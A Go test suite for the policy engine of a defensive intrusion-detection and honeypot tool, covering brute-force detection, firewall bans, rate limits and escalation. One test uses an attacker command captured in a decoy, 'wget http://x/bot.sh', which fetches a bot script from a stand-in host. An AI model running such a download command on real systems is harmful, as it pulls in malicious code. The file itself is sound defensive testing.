package policy

import (
	"context"
	"errors"
	"net/netip"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"ghostwall/internal/blocklist"
	"ghostwall/internal/config"
	"ghostwall/internal/detect"
	"ghostwall/internal/event"
	"ghostwall/internal/queue"
	"ghostwall/internal/scoring"
	"ghostwall/internal/security/firewall"
	"ghostwall/internal/sensor"
)

var t0 = time.Date(2026, 5, 1, 9, 0, 0, 0, time.UTC)

type memRecorder struct {
	mu      sync.Mutex
	actions []event.Action
	fail    error
}

func (m *memRecorder) Append(a event.Action) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.fail != nil {
		return m.fail
	}
	m.actions = append(m.actions, a)
	return nil
}

func (m *memRecorder) len() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.actions)
}

type failingBackend struct{}

func (failingBackend) Name() string { return firewall.BackendNftables }
func (failingBackend) Available(context.Context) error {
	return errors.New("nft: permission denied")
}
func (failingBackend) Block(context.Context, netip.Addr, time.Duration) error {
	return errors.New("permission denied")
}
func (failingBackend) Unblock(context.Context, netip.Addr) error { return nil }

// durationBackend records the duration of every Block call.
type durationBackend struct {
	*firewall.Noop
	mu        sync.Mutex
	durations []time.Duration
}

func (d *durationBackend) Block(ctx context.Context, addr netip.Addr, dur time.Duration) error {
	d.mu.Lock()
	d.durations = append(d.durations, dur)
	d.mu.Unlock()
	return d.Noop.Block(ctx, addr, dur)
}

type harness struct {
	eng   *Engine
	noop  *firewall.Noop
	bl    *blocklist.List
	rec   *memRecorder
	mu    sync.Mutex
	bans  []event.Event
	clock time.Time
}

func (h *harness) now() time.Time { return h.clock }

func (h *harness) banEvents() []event.Event {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]event.Event(nil), h.bans...)
}

func newHarness(t *testing.T, mode string, fw firewall.Backend) *harness {
	t.Helper()
	h := &harness{rec: &memRecorder{}, clock: t0}

	store, err := blocklist.NewFileStore(filepath.Join(t.TempDir(), "blocklist.json"))
	require.NoError(t, err)
	h.bl, err = blocklist.Open(context.Background(), store, nil, nil)
	require.NoError(t, err)
	h.bl.SetClock(h.now)

	if fw == nil {
		h.noop = firewall.NewNoop()
		fw = h.noop
	}

	cfg := config.DefaultConfig().Policy
	cfg.Mode = mode
	cfg.TransitionBacklog = 2
	h.eng, err = NewEngine(cfg, fw, h.bl, h.rec, func(ev event.Event) {
		h.mu.Lock()
		h.bans = append(h.bans, ev)
		h.mu.Unlock()
	}, nil)
	require.NoError(t, err)
	h.eng.now = h.now
	return h
}

func brute(ip string, port, count int, at time.Time) event.Event {
	return event.New(event.TypeBruteForce, event.SourceForPort(port), ip, at,
		event.BruteForceMeta{DstPort: port, Count: count, Window: 10 * time.Second})
}

func session(ip, action string, at time.Time) event.Event {
	return event.New(event.TypeCowrieSession, event.SourceCowrie, ip, at,
		event.SessionMeta{Session: "abc123", Action: action, Username: "root"})
}

func connect(ip string, port int, at time.Time) event.Event {
	return event.New(event.TypeConnectAttempt, event.SourceForPort(port), ip, at,
		event.ConnectMeta{DstPort: port, Route: "decoy"})
}

func TestSSHBruteForceEndToEnd(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	h.clock = t0.Add(10 * time.Second)

	var events []event.Event
	runner := detect.NewRunner(config.DefaultConfig().Detectors, func(ev event.Event) {
		events = append(events, ev)
	}, nil)
	for i := 0; i < 12; i++ {
		runner.Process(sensor.Observation{
			At:      t0.Add(time.Duration(i) * 800 * time.Millisecond),
			Proto:   sensor.ProtoTCP,
			SrcIP:   "10.0.0.5",
			DstIP:   "10.0.0.1",
			SrcPort: 50000 + i,
			DstPort: 22,
			SYN:     true,
		})
	}
	require.Len(t, events, 1)

	var actions []event.Action
	for _, ev := range events {
		actions = append(actions, h.eng.Handle(context.Background(), ev)...)
	}
	require.Len(t, actions, 1)

	a := actions[0]
	assert.Equal(t, event.TypeBruteForce, a.EventType)
	assert.Equal(t, event.SeverityHigh, a.Severity)
	assert.Equal(t, 0.9, a.Confidence)
	assert.Subset(t, a.Tags, []string{"ssh", "bruteforce"})
	assert.Equal(t, "SSH brute force from 10.0.0.5: 10 attempts on port 22 within 1m", a.Summary)
	assert.Contains(t, strings.Join(a.Commands, "\n"), "pam_faillock")
	assert.Contains(t, strings.Join(a.Commands, "\n"), "Cowrie")
	assert.True(t, a.Recommended)
	assert.Equal(t, config.ModeDetect, a.PolicyMode)
	assert.Equal(t, event.Enforcement{Applied: false, Reason: event.ReasonDetectMode}, a.Enforcement)

	assert.Equal(t, 1, h.rec.len())
	assert.False(t, h.noop.Blocked(netip.MustParseAddr("10.0.0.5")), "detect mode never touches the firewall")
	assert.Zero(t, h.bl.Len())
}

func TestModuleCooldown(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	ctx := context.Background()

	assert.Len(t, h.eng.Handle(ctx, brute("10.0.0.5", 22, 10, t0)), 1)

	h.clock = t0.Add(10 * time.Second)
	assert.Empty(t, h.eng.Handle(ctx, brute("10.0.0.5", 22, 10, h.clock)))

	// another source is not affected
	assert.Len(t, h.eng.Handle(ctx, brute("10.0.0.6", 22, 10, h.clock)), 1)

	h.clock = t0.Add(30 * time.Second)
	assert.Len(t, h.eng.Handle(ctx, brute("10.0.0.5", 22, 10, h.clock)), 1)

	assert.Equal(t, uint64(1), h.eng.Stats().Modules["ssh"].Suppressed)
}

func TestRulePriorityAndCounts(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	ctx := context.Background()

	fired := map[int]event.Severity{}
	for i := 0; i < 12; i++ {
		h.clock = t0.Add(time.Duration(i) * time.Second)
		for _, a := range h.eng.Handle(ctx, session("198.51.100.7", event.ActionLoginFailed, h.clock)) {
			fired[i] = a.Severity
		}
	}

	assert.Equal(t, map[int]event.Severity{
		0:  event.SeverityLow,
		5:  event.SeverityMedium,
		11: event.SeverityHigh,
	}, fired)
}

func TestDecoyCommandPlaceholders(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	ev := event.New(event.TypeCowrieSession, event.SourceCowrie, "1.2.3.4", t0,
		event.SessionMeta{Session: "abc123", Action: event.ActionCommand, Command: "wget http://x/bot.sh"})

	actions := h.eng.Handle(context.Background(), ev)
	require.Len(t, actions, 1)
	assert.Equal(t, "Attacker 1.2.3.4 ran wget http://x/bot.sh inside the decoy", actions[0].Summary)
	assert.Equal(t, event.SourceCowrie, actions[0].Source)
}

func TestPortSweepRoutesByTouchedPorts(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	ev := event.New(event.TypePortSweep, event.SourceNet, "192.0.2.44", t0,
		event.SweepMeta{Distinct: 15, Ports: "21,22,23,25,80", Window: 10 * time.Second})

	actions := h.eng.Handle(context.Background(), ev)
	require.Len(t, actions, 1)
	assert.Contains(t, actions[0].Tags, "ssh")
	assert.Equal(t, event.SeverityLow, actions[0].Severity)
}

func TestOwnOutputIsIgnored(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ban := event.New(event.TypeBan, event.SourceSSH, "10.0.0.5", t0, event.BanMeta{Reason: "x", Duration: time.Minute})
	assert.Empty(t, h.eng.Handle(context.Background(), ban))
	assert.Zero(t, h.eng.Stats().Evaluated)
}

func TestAutoBlockAppliesRuleMitigation(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	addr := netip.MustParseAddr("10.0.0.5")

	actions := h.eng.Handle(context.Background(), brute("10.0.0.5", 22, 10, t0))
	require.Len(t, actions, 1)
	assert.Equal(t, event.Enforcement{Applied: true, Reason: "applied:noop"}, actions[0].Enforcement)
	assert.Equal(t, config.ModeAutoBlock, actions[0].PolicyMode)

	assert.True(t, h.noop.Blocked(addr))
	entry, ok := h.bl.Lookup(addr)
	require.True(t, ok)
	assert.Equal(t, t0.Add(15*time.Minute), *entry.ExpiresAt)
	assert.Equal(t, "ssh.bruteforce", entry.Reason)

	bans := h.banEvents()
	require.Len(t, bans, 1)
	assert.Equal(t, event.TypeBan, bans[0].Type)
	assert.Equal(t, event.BanMeta{Reason: "ssh.bruteforce", Duration: 15 * time.Minute}, bans[0].Meta)
	assert.Equal(t, uint64(1), h.eng.Stats().Applied)
}

func TestTelnetAndSMTPBanThresholds(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	telnet := netip.MustParseAddr("10.0.0.23")
	smtp := netip.MustParseAddr("10.0.0.25")

	h.eng.Handle(ctx, connect("10.0.0.23", 23, t0))
	assert.False(t, h.noop.Blocked(telnet), "one telnet connection is only rate limited")
	h.clock = t0.Add(5 * time.Second)
	h.eng.Handle(ctx, connect("10.0.0.23", 23, h.clock))
	assert.True(t, h.noop.Blocked(telnet))
	entry, ok := h.bl.Lookup(telnet)
	require.True(t, ok)
	assert.Equal(t, "telnet.repeated_login", entry.Reason)
	assert.Equal(t, h.clock.Add(180*time.Second), *entry.ExpiresAt)

	for i := 0; i < 3; i++ {
		h.eng.Handle(ctx, connect("10.0.0.25", 587, h.clock))
	}
	assert.False(t, h.noop.Blocked(smtp), "three smtp connections stay below the ban threshold")
	h.eng.Handle(ctx, connect("10.0.0.25", 25, h.clock))
	assert.True(t, h.noop.Blocked(smtp))
	entry, ok = h.bl.Lookup(smtp)
	require.True(t, ok)
	assert.Equal(t, "smtp.repeated_auth", entry.Reason)
	assert.Equal(t, h.clock.Add(120*time.Second), *entry.ExpiresAt)
}

func TestShorterBanKeepsLongerFirewallTimeout(t *testing.T) {
	fw := &durationBackend{Noop: firewall.NewNoop()}
	h := newHarness(t, config.ModeAutoBlock, fw)
	ctx := context.Background()
	addr := netip.MustParseAddr("10.0.0.5")

	require.Len(t, h.eng.Handle(ctx, brute("10.0.0.5", 22, 12, t0)), 1)

	actions := h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelYellow, To: scoring.LevelOrange, Score: 60, At: t0})
	require.Len(t, actions, 1)
	assert.Equal(t, event.Enforcement{Applied: true, Reason: reasonAlreadyBlocked}, actions[0].Enforcement)

	assert.Equal(t, []time.Duration{15 * time.Minute}, fw.durations, "a 60s escalation must not shorten the live ban")
	entry, ok := h.bl.Lookup(addr)
	require.True(t, ok)
	assert.Equal(t, t0.Add(15*time.Minute), *entry.ExpiresAt)
	assert.Len(t, h.banEvents(), 1)
}

func TestLongerBanExtendsFirewallTimeout(t *testing.T) {
	fw := &durationBackend{Noop: firewall.NewNoop()}
	h := newHarness(t, config.ModeAutoBlock, fw)
	ctx := context.Background()

	h.eng.Handle(ctx, connect("10.0.0.5", 22, t0))
	h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelYellow, To: scoring.LevelOrange, At: t0})
	h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelOrange, To: scoring.LevelRed, At: t0})

	assert.Equal(t, []time.Duration{60 * time.Second, 300 * time.Second}, fw.durations)
	entry, ok := h.bl.Lookup(netip.MustParseAddr("10.0.0.5"))
	require.True(t, ok)
	assert.Equal(t, t0.Add(300*time.Second), *entry.ExpiresAt)
}

func TestExpiryKeepsRenewedBan(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	addr := netip.MustParseAddr("10.0.0.5")

	h.eng.Handle(ctx, connect("10.0.0.5", 22, t0))
	h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelYellow, To: scoring.LevelOrange, At: t0})

	h.clock = t0.Add(2 * time.Minute)
	stale := h.bl.Expired()
	require.Equal(t, []netip.Addr{addr}, stale)

	// the address is banned again after the sweeper listed it
	require.Len(t, h.eng.Handle(ctx, brute("10.0.0.5", 22, 12, h.clock)), 1)
	for _, a := range stale {
		h.eng.expire(ctx, a)
	}

	assert.True(t, h.bl.Blocked(addr))
	assert.True(t, h.noop.Blocked(addr), "firewall rule of the renewed ban survives")
	assert.Zero(t, h.eng.Stats().Expired)
}

func TestPassedThroughConnectionsAreNotEnforced(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	admin := netip.MustParseAddr("192.168.1.10")

	for i := 0; i < 12; i++ {
		ev := event.New(event.TypeConnectAttempt, event.SourceSSH, "192.168.1.10", t0.Add(time.Duration(i)*time.Second),
			event.ConnectMeta{DstPort: 22, Route: "backend"})
		assert.Empty(t, h.eng.Handle(ctx, ev))
	}

	assert.False(t, h.bl.Blocked(admin))
	assert.False(t, h.noop.Blocked(admin))
	assert.Empty(t, h.eng.Offenders(5))
	assert.Empty(t, h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelOrange, To: scoring.LevelRed, At: t0}))
}

func TestNoMitigationAndInvalidAddress(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()

	probe := h.eng.Handle(ctx, connect("10.0.0.9", 22, t0))
	require.Len(t, probe, 1)
	assert.Equal(t, event.ReasonNoMitigation, probe[0].Enforcement.Reason)

	local := h.eng.Handle(ctx, brute("127.0.0.1", 22, 10, t0))
	require.Len(t, local, 1)
	assert.Equal(t, event.Enforcement{Applied: false, Reason: event.ReasonInvalidIP}, local[0].Enforcement)
	assert.Zero(t, h.bl.Len())
}

func TestFirewallFailureIsRecorded(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, failingBackend{})

	actions := h.eng.Handle(context.Background(), brute("10.0.0.5", 22, 10, t0))
	require.Len(t, actions, 1)
	assert.Equal(t, event.Enforcement{Applied: false, Reason: "permission denied"}, actions[0].Enforcement)
	assert.Equal(t, 1, h.rec.len(), "failed enforcement is still recorded")
	assert.Zero(t, h.bl.Len(), "block-list only follows applied blocks")
	assert.Empty(t, h.banEvents())
	assert.Equal(t, uint64(1), h.eng.Stats().EnforceFailures)
}

func TestSweepTracksFirewallAvailability(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, failingBackend{})
	assert.True(t, h.eng.Stats().FirewallAvailable)

	h.eng.Sweep(context.Background())
	st := h.eng.Stats()
	assert.False(t, st.FirewallAvailable)
	assert.Equal(t, firewall.BackendNftables, st.Firewall)
}

func TestRecordFailureDoesNotDropAction(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	h.rec.fail = errors.New("disk full")

	actions := h.eng.Handle(context.Background(), brute("10.0.0.5", 22, 10, t0))
	assert.Len(t, actions, 1)
	assert.Equal(t, uint64(1), h.eng.Stats().RecordFailures)
}

func TestHTTPRateLimitHint(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	addr := netip.MustParseAddr("203.0.113.9")

	actions := h.eng.Handle(ctx, brute("203.0.113.9", 80, 30, t0))
	require.Len(t, actions, 1)
	assert.True(t, actions[0].Enforcement.Applied)
	assert.False(t, h.noop.Blocked(addr), "rate limits do not ban")
	assert.Equal(t, []firewall.RateLimit{{Addr: addr, Port: 80, PerMinute: 10}}, h.noop.RateLimits())

	h.clock = t0.Add(16 * time.Minute)
	h.eng.Sweep(ctx)
	assert.Empty(t, h.eng.RateLimits())
	assert.Empty(t, h.noop.RateLimits())
}

func TestRedEscalationBlocksTopOffenders(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	attacker := netip.MustParseAddr("10.0.0.5")

	for i := 0; i < 5; i++ {
		h.eng.Handle(ctx, connect("10.0.0.5", 22, t0))
	}
	h.eng.Handle(ctx, connect("10.0.0.6", 22, t0))
	h.eng.Handle(ctx, connect("10.0.0.6", 22, t0))

	actions := h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelOrange, To: scoring.LevelRed, Score: 82.5, At: t0})
	require.Len(t, actions, 2)

	a := actions[0]
	assert.Equal(t, "10.0.0.5", a.SrcIP)
	assert.Equal(t, event.TypeEscalation, a.EventType)
	assert.Equal(t, event.SeverityHigh, a.Severity)
	assert.Equal(t, event.Enforcement{Applied: true, Reason: "applied:noop"}, a.Enforcement)
	assert.Contains(t, a.Tags, "red")
	assert.Contains(t, a.Summary, "5 events")

	entry, ok := h.bl.Lookup(attacker)
	require.True(t, ok)
	assert.WithinDuration(t, t0.Add(300*time.Second), *entry.ExpiresAt, time.Second)
	assert.Contains(t, h.noop.RateLimits(), firewall.RateLimit{Addr: attacker, Port: 22, PerMinute: 10})

	// after expiry the address is no longer refused
	h.clock = t0.Add(301 * time.Second)
	assert.False(t, h.bl.Blocked(attacker))

	h.eng.Sweep(ctx)
	assert.False(t, h.noop.Blocked(attacker))
	assert.Zero(t, h.bl.Len())
	assert.Equal(t, uint64(2), h.eng.Stats().Expired)
}

func TestOrangeEscalation(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	for i, ip := range []string{"10.0.0.1", "10.0.0.2", "10.0.0.3", "10.0.0.4"} {
		for j := 0; j <= i; j++ {
			h.eng.Handle(ctx, connect(ip, 21, t0))
		}
	}

	actions := h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelYellow, To: scoring.LevelOrange, Score: 60, At: t0})
	require.Len(t, actions, 3)
	assert.Equal(t, []string{"10.0.0.4", "10.0.0.3", "10.0.0.2"},
		[]string{actions[0].SrcIP, actions[1].SrcIP, actions[2].SrcIP})
	assert.Equal(t, event.SeverityMedium, actions[0].Severity)
	assert.Equal(t, event.SourceFTP, actions[0].Source)

	entry, ok := h.bl.Lookup(netip.MustParseAddr("10.0.0.4"))
	require.True(t, ok)
	assert.Equal(t, t0.Add(60*time.Second), *entry.ExpiresAt)
	assert.False(t, h.bl.Blocked(netip.MustParseAddr("10.0.0.1")))
	assert.Empty(t, h.noop.RateLimits(), "orange does not tighten rate limits")

	// stepping down never escalates
	assert.Empty(t, h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelRed, To: scoring.LevelOrange, At: t0}))
}

func TestGreenClearsRateLimitsButKeepsBlocks(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	h.eng.Handle(ctx, connect("10.0.0.5", 22, t0))
	h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelYellow, To: scoring.LevelRed, At: t0})
	require.NotEmpty(t, h.noop.RateLimits())

	h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelRed, To: scoring.LevelGreen, At: t0})
	assert.Empty(t, h.eng.RateLimits())
	assert.Empty(t, h.noop.RateLimits())
	assert.True(t, h.bl.Blocked(netip.MustParseAddr("10.0.0.5")))
	assert.Equal(t, scoring.LevelGreen, h.eng.Stats().Level)
}

func TestDetectModeEscalationRecordsOnly(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	ctx := context.Background()
	h.eng.Handle(ctx, connect("10.0.0.5", 22, t0))

	actions := h.eng.HandleTransition(ctx, scoring.Transition{From: scoring.LevelGreen, To: scoring.LevelRed, At: t0})
	require.Len(t, actions, 1)
	assert.Equal(t, event.ReasonDetectMode, actions[0].Enforcement.Reason)
	assert.Zero(t, h.bl.Len())
	assert.Empty(t, h.eng.RateLimits())
}

func TestManualUnblock(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	ctx := context.Background()
	addr := netip.MustParseAddr("10.0.0.5")

	assert.ErrorIs(t, h.eng.Unblock(ctx, addr, "tester"), ErrNotFound)

	h.eng.Handle(ctx, brute("10.0.0.5", 22, 10, t0))
	require.True(t, h.bl.Blocked(addr))

	require.NoError(t, h.eng.Unblock(ctx, netip.MustParseAddr("::ffff:10.0.0.5"), "tester"))
	assert.False(t, h.bl.Blocked(addr))
	assert.False(t, h.noop.Blocked(addr))
}

func TestOnTransitionDropsOldest(t *testing.T) {
	h := newHarness(t, config.ModeDetect, nil)
	h.eng.OnTransition(scoring.Transition{To: scoring.LevelYellow})
	h.eng.OnTransition(scoring.Transition{To: scoring.LevelOrange})
	h.eng.OnTransition(scoring.Transition{To: scoring.LevelRed})

	assert.Equal(t, uint64(1), h.eng.Stats().TransitionsDropped)
	assert.Equal(t, scoring.LevelOrange, (<-h.eng.transitions).To)
	assert.Equal(t, scoring.LevelRed, (<-h.eng.transitions).To)
}

func TestRunConsumesQueueAndTransitions(t *testing.T) {
	h := newHarness(t, config.ModeAutoBlock, nil)
	q := queue.NewRingBuffer[event.Event](16)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		h.eng.Run(ctx, q)
		close(done)
	}()

	require.NoError(t, q.Push(brute("10.0.0.5", 22, 10, t0)))
	require.Eventually(t, func() bool { return h.rec.len() == 1 }, 2*time.Second, 10*time.Millisecond)

	h.eng.OnTransition(scoring.Transition{From: scoring.LevelYellow, To: scoring.LevelRed, At: t0})
	assert.Eventually(t, func() bool { return h.rec.len() == 2 }, 2*time.Second, 10*time.Millisecond)
	cancel()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("Run did not stop")
	}
}

func TestNewModuleRejectsUnknownEventType(t *testing.T) {
	cfg := config.DefaultModules()[0]
	cfg.Rules[0].EventTypes = []string{"telepathy"}
	_, err := NewModule(cfg)
	assert.Error(t, err)
}

func TestRender(t *testing.T) {
	got := render("{ip} on {port} {unknown}", map[string]string{"ip": "10.0.0.5", "port": "22"})
	assert.Equal(t, "10.0.0.5 on 22 {unknown}", got)
	assert.Equal(t, "1m", formatWindow(time.Minute))
	assert.Equal(t, "90s", formatWindow(90*time.Second))
}
